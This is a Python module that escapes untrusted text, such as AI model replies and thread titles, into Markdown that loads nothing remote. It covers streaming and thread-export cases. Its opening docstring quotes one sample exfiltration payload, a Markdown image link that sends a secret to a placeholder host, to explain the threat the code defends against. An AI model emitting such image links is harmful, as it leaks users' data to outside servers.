"""Untrusted text (model output, thread titles, assistant and user names) as Markdown that loads
nothing remote.

Markdown renderers show images, so `![](http://host/?q=secret)` in a reply would make every
browser that shows it fetch that address; in Streamlit, text between two `$` signs becomes LaTeX.
Streamlit escapes raw HTML itself; a Markdown file opened in another viewer may not, so the thread
export asks for HTML to be shown as typed too.

- `safe_markdown`: keeps bold, lists, links, tables and code; every `![` loses its image meaning
  (shown as typed), `$` stays a dollar and, on request, raw HTML is shown as typed. Code blocks
  are left as they are.
- `StreamRender` / `safe_stream`: the same for a reply while it streams in, in time linear in its
  length.
- `safe_inline`, `safe_file_markdown`: for text inside a line, and for a Markdown file.
- `plain`: for titles, buttons and headers: no Markdown at all.
- `inline_code`: text shown as one code span whatever backticks it holds.

Code blocks are found with markdown-it, a CommonMark parser like Streamlit's renderer.
"""
from __future__ import annotations

import re
import string
from functools import lru_cache
from typing import Iterable, Iterator

from markdown_it import MarkdownIt
from markdown_it.common.utils import mdTrim
from markdown_it.rules_block.table import escapedSplit
from markdown_it.token import Token

ASCII_PUNCTUATION = frozenset(string.punctuation)   # what CommonMark lets a backslash escape
LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+$")   # markdown-it's own line breaks
NEWLINE = re.compile(r"\r\n|\r|\n")
# Block markers a line may start with: indentation, quotes, list bullets and numbers.
BLOCK_MARKERS = re.compile(r"^(?:[ \t]*(?:>|(?:[-*+]|[0-9]{1,9}[.)])(?=[ \t]|$)))*[ \t]*")
ORDERED_NUMBER = re.compile(r"[0-9]{1,9}")
# List markers at column 0, each followed by at most 4 spaces: the item's text is no code block.
LIST_START = re.compile(r"(?:(?:[-*+]|[0-9]{1,9}[.)]) {1,4})+(?![ \t])")
BACKTICKS = re.compile(r"`+")
SPECIAL = re.compile(r"[\\`$!<]")
PLAIN_SPECIAL = re.compile(r"([\\`*_\[\]<>$~:|&#])")

# While a reply streams in, markdown-it may read at most this many characters per character
# received (plus a start-up allowance); past it, new lines wait until more text has arrived.
# Ordinary replies use a fraction of it (bench/stream_render.py); the cap keeps odd ones linear.
PARSE_RATE = 8
PARSE_ALLOWANCE = 20_000


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    # Block structure only: which lines are code or table rows. Inline parsing is not needed.
    return MarkdownIt("commonmark", {"html": True}).enable("table").disable(["inline", "text_join"])


def _tokens(text: str) -> list[Token]:
    """markdown-it's block tokens for `text`: the one place text is parsed."""
    return _parser().parse(text)


def _block_lines(tokens: list[Token]) -> tuple[set[int], set[int]]:
    """Indexes of the lines inside code blocks (fenced or indented), and of table lines."""
    code: set[int] = set()
    table: set[int] = set()
    for token in tokens:
        if token.map and token.type in ("fence", "code_block"):
            code.update(range(*token.map))
        elif token.map and token.type == "table_open":
            table.update(range(*token.map))
    return code, table


def _undetermined(partial_line: str) -> bool:
    """Whether the next characters of a line still arriving could make it code or end code:
    it is only markers and spaces so far, or starts like a fence or an ordered list number."""
    rest = partial_line[BLOCK_MARKERS.match(partial_line).end():]
    return rest == "" or rest[0] in "`~" or ORDERED_NUMBER.fullmatch(rest) is not None


def _is_blank(line: str) -> bool:
    return line.strip(" \t\r\n") == ""


def _closes_fence(line: str, marker: str, length: int) -> bool:
    """Whether `line` closes a top-level fence of `length` `marker`s (markdown-it's rule)."""
    body = line.rstrip("\r\n")
    column = i = 0
    while i < len(body) and body[i] in " \t":
        column += 4 - column % 4 if body[i] == "\t" else 1
        i += 1
    if column >= 4:
        return False
    end = i
    while end < len(body) and body[end] == marker:
        end += 1
    return end - i >= length and body[end:].strip(" \t") == ""


def _closing_run(line: str, start: int, run: int, limit: int) -> int:
    """Where the next run of exactly `run` backticks begins in line[start:limit], or -1."""
    for match in BACKTICKS.finditer(line, start, limit):
        if match.end() - match.start() == run:
            return match.start()
    return -1


def _escape(line: str, *, partial: bool = False, table: bool = False, hold_pipes: bool = False,
            dollars: bool = True, html: bool = False, scan: int = 0) -> tuple[str, int, bool, int]:
    """Escape one line of text outside code blocks.

    Returns (markdown, stop, held, scan). `stop` < len(line) when it stopped early:
    - with `partial` (the line is still arriving), before anything the next characters could
      change: a trailing backslash or `!`, a backtick run or an unclosed code span; so what was
      returned stays a prefix of the final result. `scan` then tells where the search for the
      closing backticks may go on next time (relative to `stop`), so a long unclosed span is
      read once;
    - with `hold_pipes` (`held` is True), at a code span holding a `|`: in a table row the pipe
      splits the cell and the span with it, and whether this line is a table row is not known yet.
    In a table row (`table`), a code span ends at its cell: backticks with no closing run before
    the next `|` are literal, and what follows them is escaped like any text.
    A code span shows its content as typed. `![` is escaped even there: parsers differ on where a
    span ends (autolinks, raw HTML), and an image must never slip through.
    """
    out: list[str] = []
    i, n = 0, len(line)
    while i < n:
        found = SPECIAL.search(line, i)
        if found is None:
            out.append(line[i:])
            break
        if found.start() > i:
            out.append(line[i:found.start()])
            i = found.start()
        char = line[i]
        if char == "\\":
            if i + 1 == n and partial:
                return "".join(out), i, False, 0
            if i + 1 < n and line[i + 1] in ASCII_PUNCTUATION:   # already escaped: keep as is
                out.append(line[i:i + 2])
                i += 2
                continue
            out.append(char)
        elif char == "`":
            run = BACKTICKS.match(line, i).end() - i
            if partial and i + run == n:
                return "".join(out), i, False, 0   # the run may grow
            limit = n
            if table:
                pipe = line.find("|", i + run)
                limit = n if pipe == -1 else pipe
            close = _closing_run(line, max(i + run, i + scan) if i == 0 else i + run, run, limit)
            if close == -1:
                if partial and limit == n:   # the span may close later on this line
                    trailing = len(line) - len(line.rstrip("`"))
                    return "".join(out), i, False, max(run, n - trailing - i)
                out.append("`" * run)        # no closing run: the backticks are literal
                i += run
                continue
            if partial and limit == n and close + run == n:
                return "".join(out), i, False, close - i   # the closing run may grow
            content = line[i + run:close]
            if hold_pipes and "|" in content:
                return "".join(out), i, True, 0
            out.append("`" * run + content.replace("![", "!\\[") + "`" * run)
            i = close + run
            continue
        elif char == "$":
            out.append("\\$" if dollars else "$")
        elif char == "<":
            out.append("\\<" if html else "<")
        else:   # "!"
            if i + 1 == n and partial:
                return "".join(out), i, False, 0
            if line[i + 1:i + 2] == "[":
                out.append("!\\[")
                i += 2
                continue
            out.append("!")
        i += 1
    return "".join(out), n, False, 0


def safe_markdown(text: str, partial: bool = False, *, dollars: bool = True, html: bool = False) -> str:
    """Markdown for `text` that loads nothing remote and keeps `$` a dollar.

    `partial=True` while a reply is still streaming in: the result stops before any text whose
    rendering the next characters could still change. `dollars=False` leaves `$` as typed (for
    a file, where no math is rendered); `html=True` shows raw HTML as typed (for a file another
    viewer may open; Streamlit already does this).
    """
    lines = LINE.findall(text)
    if not lines:
        return ""
    code, table = _block_lines(_tokens(text))
    arriving = partial and not lines[-1].endswith("\n")
    last_complete = len(lines) - (2 if arriving else 1)
    out: list[str] = []
    for index, line in enumerate(lines):
        if index > last_complete:   # the line still arriving
            if not _undetermined(line):
                out.append(line if index in code else
                           _escape(line, partial=True, hold_pipes=True, dollars=dollars, html=html)[0])
            break
        if index in code:
            out.append(line)
            continue
        # The last complete line becomes a table header if the next line is a delimiter row.
        unsettled = partial and index == last_complete
        escaped, stop, _, _ = _escape(line, table=index in table and not unsettled, hold_pipes=unsettled,
                                      dollars=dollars, html=html)
        out.append(escaped)
        if stop < len(line):
            break
    return "".join(out)


def safe_inline(text: str, *, dollars: bool = True, html: bool = False) -> str:
    """`text` on one line, for a place inside a line of other Markdown (never a block of its
    own): no image, and `$` and raw HTML as `safe_markdown` treats them."""
    return _escape(" ".join(str(text).splitlines()), dollars=dollars, html=html)[0]


def safe_file_markdown(text: str) -> str:
    """Safe Markdown of `text` for a file where more Markdown follows it (the thread export).

    Any viewer may open the file, and some render raw HTML: it is shown as typed, and no image
    loads. `$` stays as typed (math is not a risk there). A code fence `text` leaves open is
    closed, or it would swallow what follows and a later fence would close it instead, turning
    that fence's code into live Markdown.
    """
    out = safe_markdown(text, dollars=False, html=True)
    lines = LINE.findall(text)
    last = None
    for token in _tokens(text):
        if token.level == 0 and token.map and token.nesting >= 0:
            last = token
    if last is not None and last.type == "fence" and last.map[1] == len(lines):
        marker, length = last.markup[0], len(last.markup)
        if last.map[0] == len(lines) - 1 or not _closes_fence(lines[-1], marker, length):
            out += ("" if out.endswith(("\n", "\r")) else "\n") + marker * length
    return out


class _LineEscaper:
    """Escapes the line still arriving, reading each character about once."""

    def __init__(self) -> None:
        self.rest = ""        # arrived but not escaped yet
        self.scan = 0         # where the search for a closing backtick run goes on, in `rest`
        self.held = False     # stopped at a code span holding a `|`: wait for the whole line

    def feed(self, text: str) -> str:
        self.rest += text
        if self.held:
            return ""
        out, stop, self.held, self.scan = _escape(self.rest, partial=True, hold_pipes=True, scan=self.scan)
        self.rest = self.rest[stop:]
        return out


class StreamRender:
    """`safe_markdown` of a reply as it streams in, at a cost linear in its length.

    `feed(delta)` returns what to add to what was shown so far; what was shown is always
    `safe_markdown(text_so_far, partial=True)` or, for a while, a prefix of it. `finish()` returns
    the rest of `safe_markdown(text)`. If later text changes how shown text renders (so the new
    result no longer extends what was shown), the rest is held back and the caller draws the
    finished message again.

    How: each line is escaped about once. markdown-it reads only the lines after the last
    restart point, a line where its parser is in a state that at most two lines recreate: a
    top-level block after a blank line or right after another top-level block, an item of a
    top-level list, a row of a top-level table (recreated by its header and delimiter rows).
    Lines inside an open top-level code fence are taken as code without parsing until one could
    close it. For other long blocks (a block quote of hundreds of lines, say) a budget of parsed
    characters per received character holds new lines back until more text has arrived, so the
    total stays linear.
    """

    def __init__(self) -> None:
        self._text: list[str] = []          # every delta, for the final rendering
        self._received = 0
        self._parsed = 0                    # characters handed to markdown-it
        self._frozen: list[str] = []        # safe Markdown of the lines before the restart point
        self._context: list[str] = []       # lines that recreate the parser's state there
        self._lines: list[str] = []         # complete lines after the restart point
        self._outputs: list[tuple | None] = []   # their safe Markdown: ((flags), text, done)
        self._tail_len = 0                  # characters in _context and _lines
        self._cur: list[str] = []           # the line still arriving, in pieces
        self._cur_len = 0
        self._cur_code: bool | None = None  # whether it is code; None: not known yet
        self._escaper: _LineEscaper | None = None
        self._fence: tuple[str, int] | None = None   # open top-level fence: (marker, length)
        self._shown: list[str] = []         # what was shown after the frozen part
        self._out: list[str] = []           # what this feed() shows
        self._pending = False               # lines arrived that were not parsed yet
        self._blocked = False               # the display stopped before the line still arriving
        self._stalled = False

    @property
    def stalled(self) -> bool:
        """Whether later text changed what was shown, so the caller must draw the message again."""
        return self._stalled

    def feed(self, delta: str) -> str:
        """Take the next piece of the reply; return what to add to the display."""
        if not delta:
            return ""
        self._text.append(delta)
        self._received += len(delta)
        if self._stalled:
            return ""
        self._out = []
        pieces, breaks = NEWLINE.split(delta), NEWLINE.findall(delta)
        if self._cur and self._cur[-1].endswith("\r"):   # held back: it may have been half of "\r\n"
            if delta.startswith("\n"):
                pieces, breaks = pieces[1:], breaks[1:]
                self._grow("\n")
            self._complete()
        if breaks and breaks[-1] == "\r" and pieces[-1] == "":   # the same at the end of this delta
            breaks.pop()
            pieces[-2:] = [pieces[-2] + "\r"]
        for k, piece in enumerate(pieces):
            text = piece + (breaks[k] if k < len(breaks) else "")
            if text:
                self._grow(text)
            if k < len(breaks):
                self._complete()
        if self._pending or (self._cur_code is None and self._cur_len and not self._blocked
                             and not self._decide_cur()):
            self._event()
        return "".join(self._out)

    def finish(self) -> str:
        """The rest of `safe_markdown` of the whole reply, or "" if the display has stalled."""
        final = safe_markdown("".join(self._text))
        if self._stalled:
            return ""
        shown = "".join(self._frozen) + "".join(self._shown)
        if not final.startswith(shown):
            self._stalled = True
            return ""
        return final[len(shown):]

    def _show(self, text: str) -> None:
        if text:
            self._shown.append(text)
            self._out.append(text)

    def _grow(self, text: str) -> None:
        """Add characters to the line still arriving; show them if its kind is known."""
        self._cur.append(text)
        self._cur_len += len(text)
        if self._pending or self._blocked or self._cur_code is None:
            return
        self._show(text if self._cur_code else self._escaper.feed(text))

    def _decide_cur(self) -> bool:
        """Tell without parsing whether the line still arriving is code, and show it; or return
        False when that takes a parse."""
        line = "".join(self._cur)
        self._cur = [line]
        if _undetermined(line):
            return True   # nothing to show yet
        if self._fence is not None:
            # Inside an open top-level fence, and it cannot close it (that would start with
            # a fence character, which leaves a line undetermined): code.
            self._cur_code = True
            self._show(line)
            return True
        if (BLOCK_MARKERS.match(line).end() == 0 and line[0] not in " \t") or LIST_START.match(line):
            # At column 0 with no block marker, or list markers with their text right after them:
            # outside a top-level fence never code (a fence opener, or a number that may become a
            # list marker, would still be undetermined). A column-0 line ends any list item or
            # indented block, and a block quote (whose fence it would otherwise be in) too.
            self._cur_code, self._escaper = False, _LineEscaper()
            self._show(self._escaper.feed(line))
            return True
        return False

    def _complete(self) -> None:
        """The line still arriving has ended."""
        line = "".join(self._cur)
        fast = (not self._pending and not self._blocked and self._fence is not None
                and not _closes_fence(line, *self._fence))
        if fast and self._cur_code is None:
            self._show(line)   # code in an open top-level fence: show what was held back of it
        self._lines.append(line)
        self._outputs.append(((True, False, False), line, True) if fast else None)
        self._tail_len += len(line)
        self._cur, self._cur_len, self._cur_code, self._escaper = [], 0, None, None
        if not fast:
            self._pending = True

    def _parse(self, text: str) -> list[Token]:
        self._parsed += len(text)
        return _tokens(text)

    def _event(self) -> None:
        """Parse the lines after the restart point, move the restart point, redraw those lines."""
        if self._parsed + self._tail_len + self._cur_len > PARSE_RATE * self._received + PARSE_ALLOWANCE:
            self._pending = True   # over budget: wait for more text
            return
        self._pending = False
        cur = "".join(self._cur)
        self._cur = [cur] if cur else []
        tokens = self._parse("".join(self._context) + "".join(self._lines) + cur)
        code, table = _block_lines(tokens)
        self._fence = self._open_fence(tokens, len(self._context) + len(self._lines), cur)
        committed, shift = self._advance(tokens, code, table)
        if shift:
            code = {i - shift for i in code if i >= shift}
            table = {i - shift for i in table if i >= shift} | set(range(len(self._context)))
        self._redraw(code, table, cur, committed)

    def _advance(self, tokens: list[Token], code: set[int], table: set[int]) -> tuple[str, int]:
        """Move the restart point as far as the parse allows. Returns the safe Markdown of the
        lines left behind, and by how many lines the parse's line numbers shift."""
        c, n = len(self._context), len(self._lines)
        best: tuple[int, list[str]] | None = None   # (line after the restart point, context)

        def consider(at: int, context: list[str]) -> None:
            nonlocal best
            if best is None or at > best[0]:
                best = (at, context)

        previous_end = None
        for i, token in enumerate(tokens):
            if not token.map or token.nesting < 0:
                continue
            start, end = token.map
            at = start - c
            if token.level == 0:
                # A top-level block after a blank line or right after another top-level block:
                # nothing is open there. Known to start there once the next line is complete too
                # (a table needs its delimiter row).
                if 1 <= at <= n - 2 and (previous_end == start or _is_blank(self._lines[at - 1])):
                    consider(at, [])
                previous_end = end
                if token.type == "table_open":
                    row = self._table_row(start, end)
                    if row is not None:
                        consider(*row)
            elif (token.type == "list_item_open" and token.level == 1 and 1 <= at <= n - 2
                  and tokens[i - 1].type == "list_item_close"
                  and ("|" not in self._lines[at] or self._parses_as_list(at))):
                # A later item of a top-level list: markdown-it parses a new list starting there
                # the same way, unless that line reads as a table header (the table rule comes
                # first); lines with a pipe are checked by parsing them.
                consider(at, [])
        if best is None:
            return "", 0
        at, context = best
        committed = "".join(self._line_output(k, c + k in code, c + k in table, False) for k in range(at))
        self._frozen.append(committed)
        self._tail_len = (self._tail_len - sum(map(len, self._context)) - sum(map(len, self._lines[:at]))
                          + sum(map(len, context)))
        self._context = context
        self._lines, self._outputs = self._lines[at:], self._outputs[at:]
        return committed, c + at - len(context)

    def _parses_as_list(self, at: int) -> bool:
        tokens = self._parse("".join(self._lines[at:at + 2]))
        return bool(tokens) and tokens[0].type in ("bullet_list_open", "ordered_list_open")

    def _table_row(self, start: int, end: int) -> tuple[int, list[str]] | None:
        """The last complete row of a top-level table, with the header and delimiter rows that
        recreate the table there; only while no row so far has missing or extra cells
        (markdown-it counts those over the whole table)."""
        c, n = len(self._context), len(self._lines)
        at = min(end - c - 1, n - 1)   # a row's own line decides that it is a row
        if at < 1 or c + at < start + 2:
            return None
        if start < c:                  # the table began before the restart point
            header, rows = self._context, self._lines[:at]
        else:
            header, rows = self._lines[start - c:start - c + 2], self._lines[start - c + 2:at]
        columns = _cells(header[0])
        if any(_cells(row) != columns for row in rows):
            return None
        return at, header

    def _line_output(self, k: int, code: bool, table: bool, unsettled: bool) -> str:
        return self._line_result(k, code, table, unsettled)[0]

    def _line_result(self, k: int, code: bool, table: bool, unsettled: bool) -> tuple[str, bool]:
        """Safe Markdown of complete line k after the restart point, and whether it is whole
        (an unsettled line holds back at a code span holding a pipe)."""
        flags = (code, table and not unsettled and not code, unsettled and not code)
        cached = self._outputs[k]
        if cached is not None and cached[0] == flags:
            return cached[1], cached[2]
        line = self._lines[k]
        if code:
            result = (line, True)
        else:
            escaped, stop, _, _ = _escape(line, table=flags[1], hold_pipes=flags[2])
            result = (escaped, stop == len(line))
        self._outputs[k] = (flags, *result)
        return result

    def _redraw(self, code: set[int], table: set[int], cur: str, committed: str) -> None:
        """Show what is new in the safe Markdown of the lines after the restart point."""
        c, n = len(self._context), len(self._lines)
        parts: list[str] = []
        self._blocked = False
        for k in range(n):
            # The last complete line becomes a table header if the next one is a delimiter row.
            output, whole = self._line_result(k, c + k in code, c + k in table, k == n - 1)
            parts.append(output)
            if not whole:
                self._blocked = True
                break
        self._cur_code, self._escaper = None, None
        if not self._blocked and cur and not _undetermined(cur):
            self._cur_code = c + n in code
            if self._cur_code:
                parts.append(cur)
            else:
                self._escaper = _LineEscaper()
                parts.append(self._escaper.feed(cur))
        tail = "".join(parts)
        display = committed + tail
        shown = "".join(self._shown)
        if not display.startswith(shown):
            self._stalled = True
            return
        self._out.append(display[len(shown):])
        self._shown = [tail]

    def _open_fence(self, tokens: list[Token], complete: int, cur: str) -> tuple[str, int] | None:
        """(marker, length) of a top-level fence still open after the complete lines, if any."""
        last = None
        for token in tokens:
            if token.level == 0 and token.map and token.nesting >= 0:
                last = token
        if last is None or last.type != "fence" or last.map[0] >= complete:
            return None
        fence = (last.markup[0], len(last.markup))
        end = last.map[1]
        if end > complete:          # it goes on into the line still arriving: open
            return fence
        if end < complete or cur:   # it ended before
            return None
        final = complete - 1 - len(self._context)   # it ends at the last line: closed by it?
        if final + len(self._context) == last.map[0] or not _closes_fence(self._lines[final], *fence):
            return fence
        return None


def _cells(row: str) -> int:
    """How many cells markdown-it's table rule counts in a row."""
    columns = escapedSplit(mdTrim(row.rstrip("\r\n").lstrip(" \t")))
    if columns and columns[0] == "":
        columns.pop(0)
    if columns and columns[-1] == "":
        columns.pop()
    return len(columns)


def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
    """Turn streamed text deltas into deltas of their safe Markdown (for st.write_stream)."""
    render = StreamRender()
    for delta in deltas:
        out = render.feed(delta)
        if out:
            yield out
    rest = render.finish()
    if rest:
        yield rest


def plain(text: str) -> str:
    """`text` for a title, button or header: shown as typed, no Markdown, on one line."""
    text = " ".join(str(text).split())
    escaped = PLAIN_SPECIAL.sub(r"\\\1", text)
    # A leading list marker or heading would be taken as a block and unwrapped.
    return re.sub(r"^(\d+)([.)])|^([-+=])", lambda m: (m.group(1) or "") + "\\" + (m.group(2) or m.group(3)),
                  escaped)


def inline_code(text: str) -> str:
    """`text` as one Markdown code span (content shown as typed) whatever backticks it holds."""
    text = " ".join(str(text).splitlines())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{fence}{pad}{text}{pad}{fence}"
